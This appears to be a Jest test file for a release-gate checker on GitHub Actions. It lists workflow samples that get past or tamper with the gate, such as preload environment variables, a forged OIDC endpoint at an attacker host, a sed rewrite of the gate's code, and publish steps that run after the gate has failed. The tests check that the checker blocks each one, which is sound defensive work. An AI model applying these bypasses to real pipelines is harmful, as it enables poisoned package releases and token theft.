/**
 * Attack class: the gate's failure is not final. Each workflow publishes although the gate
 * blocked (or never ran, or ran with code loaded into it). GitHub's parser accepts them all.
 */
import { describe, expect, it } from '@jest/globals'
import { CHECKOUT, DOWNLOAD, GATE, PYPI, blocking, both } from './helpers.js'

const job = (steps: string, extra = '', top = '') => `name: Release
on:
  release:
    types: [published]
permissions:
  contents: read
${top}jobs:
  publish:
    runs-on: ubuntu-latest
    environment: pypi
    permissions:
      contents: read
      id-token: write
${extra}    steps:
${steps}`

const ATTACKS: Array<[string, string, string, ('cli-too' | 'action-only')?]> = [
  [
    'continue-on-error on the gate step',
    job(`      - uses: ${GATE}\n        continue-on-error: true\n      - uses: ${DOWNLOAD}\n        with:\n          name: dist\n          path: dist/\n      - uses: ${PYPI}\n`),
    'poisoned-environment',
  ],
  [
    'continue-on-error from an expression',
    job(`      - uses: ${GATE}\n        continue-on-error: \${{ vars.SOFT_GATE == 'yes' }}\n      - uses: ${PYPI}\n`),
    'poisoned-environment',
  ],
  ['the publish runs if: always()', job(`      - uses: ${GATE}\n      - uses: ${PYPI}\n        if: always()\n`), 'poisoned-environment'],
  ['the publish runs if: success() || failure()', job(`      - uses: ${GATE}\n      - uses: ${CHECKOUT}\n      - run: uv publish\n        if: success() || failure()\n`), 'poisoned-environment'],
  ['the publish runs if: !cancelled() (mixed case)', job(`      - uses: ${GATE}\n      - uses: ${PYPI}\n        if: \${{ !Cancelled() }}\n`), 'poisoned-environment'],
  // the CLI does not see the script publish, so only the job running the gate is judged
  ['a script runs if: failure() and can publish', job(`      - uses: ${GATE}\n      - if: failure()\n        run: ./scripts/release.sh\n`), 'poisoned-environment', 'action-only'],
  ['twine runs if: failure()', job(`      - uses: ${GATE}\n      - if: failure()\n        run: twine upload --skip-existing dist/*\n`), 'poisoned-environment'],
  ['the gate step is skipped by its own if:', job(`      - uses: ${GATE}\n        if: github.event.release.prerelease\n      - uses: ${PYPI}\n`), 'poisoned-environment'],
  ['NODE_OPTIONS --require at workflow level', job(`      - uses: ${GATE}\n      - uses: ${PYPI}\n`, '', 'env:\n  NODE_OPTIONS: --require ./node_modules/.cache/preload.js\n'), 'poisoned-environment'],
  ['NODE_OPTIONS from a variable on the gate step', job(`      - uses: ${GATE}\n        env:\n          NODE_OPTIONS: \${{ vars.NODE_OPTIONS }}\n      - uses: ${PYPI}\n`), 'poisoned-environment'],
  ['LD_PRELOAD on the job', job(`      - uses: ${GATE}\n      - uses: ${PYPI}\n`, '    env:\n      LD_PRELOAD: ./build/libhook.so\n'), 'poisoned-environment'],
  ['BASH_ENV on the job', job(`      - uses: ${GATE}\n      - run: twine upload dist/*\n`, '    env:\n      BASH_ENV: .github/ci.env\n'), 'poisoned-environment'],
  ['PYTHONPATH on the publish step (sitecustomize.py)', job(`      - uses: ${GATE}\n      - uses: ${CHECKOUT}\n      - run: twine upload dist/*\n        env:\n          PYTHONPATH: ./tools\n`), 'poisoned-environment'],
  ['PERL5OPT and RUBYOPT', job(`      - uses: ${GATE}\n      - run: gem push pkg/*.gem\n        env:\n          RUBYOPT: -r./hook\n          PERL5OPT: -Mhook\n`), 'poisoned-environment'],
  ['a forged OIDC endpoint in env', job(`      - uses: ${GATE}\n      - uses: ${PYPI}\n`, '    env:\n      ACTIONS_ID_TOKEN_REQUEST_URL: https://oidc.attacker.example/token\n      ACTIONS_ID_TOKEN_REQUEST_TOKEN: x\n'), 'poisoned-environment'],
  ['env from one expression', job(`      - uses: ${GATE}\n        env: \${{ fromJSON(vars.GATE_ENV) }}\n      - uses: ${PYPI}\n`), 'poisoned-environment'],
  ['a script before the gate rewrites it', job(`      - run: sed -i 's/process.exitCode = 1/0/' "$RUNNER_WORKSPACE/../_actions/octo-org/release-gate/"*/dist/index.js\n      - uses: ${GATE}\n      - uses: ${PYPI}\n`), 'gate-order'],
  ['an unknown action before the gate', job(`      - uses: octo-org/setup-tools@0123456789abcdef0123456789abcdef01234567\n      - uses: ${GATE}\n      - uses: ${PYPI}\n`), 'gate-order'],
]

describe('the gate cannot be talked out of blocking (its failure is final)', () => {
  it.each(ATTACKS.map(([what, text, rule, where]) => [what, { text, rule, where }] as const))('%s: blocked', (_what, { text, rule, where }) => {
    const { action, cli } = both(text, 'publish')
    expect(action.verdict).toBe('fail')
    expect(blocking(action)).toContain(rule)
    if (where !== 'action-only') expect(blocking(cli)).toContain(rule)
  })

  it('near-misses stay clean: a notification after failure, a memory limit, the gate first', () => {
    const text = job(
      `      - uses: ${GATE}\n      - uses: ${DOWNLOAD}\n        with:\n          name: dist\n          path: dist/\n      - uses: ${PYPI}\n      - if: failure()\n        uses: slackapi/slack-github-action@91efab103c0de0a537f72a35f6b8cda0ee76bf0a # v2.1.1\n        with:\n          webhook: \${{ secrets.SLACK_WEBHOOK }}\n          webhook-type: incoming-webhook\n          payload: '{"text": "release failed"}'\n`,
      '',
      'env:\n  NODE_OPTIONS: --max-old-space-size=4096\n',
    )
    const { action, cli } = both(text, 'publish')
    expect(blocking(action)).not.toContain('poisoned-environment')
    expect(blocking(action)).not.toContain('gate-order')
    expect(blocking(cli)).not.toContain('poisoned-environment')
  })
})
